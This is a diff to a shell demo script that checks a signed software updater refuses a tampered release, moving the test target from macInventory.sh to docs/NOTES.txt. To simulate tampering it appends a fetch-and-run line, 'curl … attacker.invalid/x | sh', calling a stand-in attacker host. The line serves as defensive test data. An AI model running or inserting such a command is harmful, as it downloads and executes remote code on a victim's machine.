@@ -160,26 +160,28 @@ updater_run() { # shows only this run's log lines
     echo
     cat "$inst"/updatelog/kxupd_*.log | tail -n +"$((seen + 1))"
 }
-printf '# signed release 1\n' >> "$modules/macInventory.sh"
+# (NOTES.txt: a file replaced twice within one minute would meet its own
+# backup of that minute.)
+printf 'signed release 1\n' >> "$modules/NOTES.txt"
 publish_signed 1
 echo "manifest.txt:"; cat "$demo/update/update/manifest.txt"
 updater_run
 echo; echo "accepted so far:"; cat "$inst/update.state"
 
 say "A tampered release is refused"
-printf '# signed release 2\n' >> "$modules/macInventory.sh"
+printf 'signed release 2\n' >> "$modules/NOTES.txt"
 publish_signed 2
-before=$(sha256sum < "$inst/macInventory.sh")
+before=$(sha256sum < "$inst/docs/NOTES.txt")
 # Someone between the server and the machine appends a line after signing.
-printf 'curl -s http://attacker.invalid/x | sh\n' >> "$modules/macInventory.sh"
+printf 'curl -s http://attacker.invalid/x | sh\n' >> "$modules/NOTES.txt"
 updater_run
-after=$(sha256sum < "$inst/macInventory.sh")
+after=$(sha256sum < "$inst/docs/NOTES.txt")
 echo
 if [ "$before" = "$after" ]; then
-    echo "installed macInventory.sh unchanged; it still ends with:"
+    echo "installed docs/NOTES.txt unchanged; it still ends with:"
 else
-    echo "installed macInventory.sh CHANGED (this is a fault):"
+    echo "installed docs/NOTES.txt CHANGED (this is a fault):"
 fi
-tail -n 1 "$inst/macInventory.sh"
+tail -n 1 "$inst/docs/NOTES.txt"
 
 say "Done; servers stopped. Everything is under $demo"
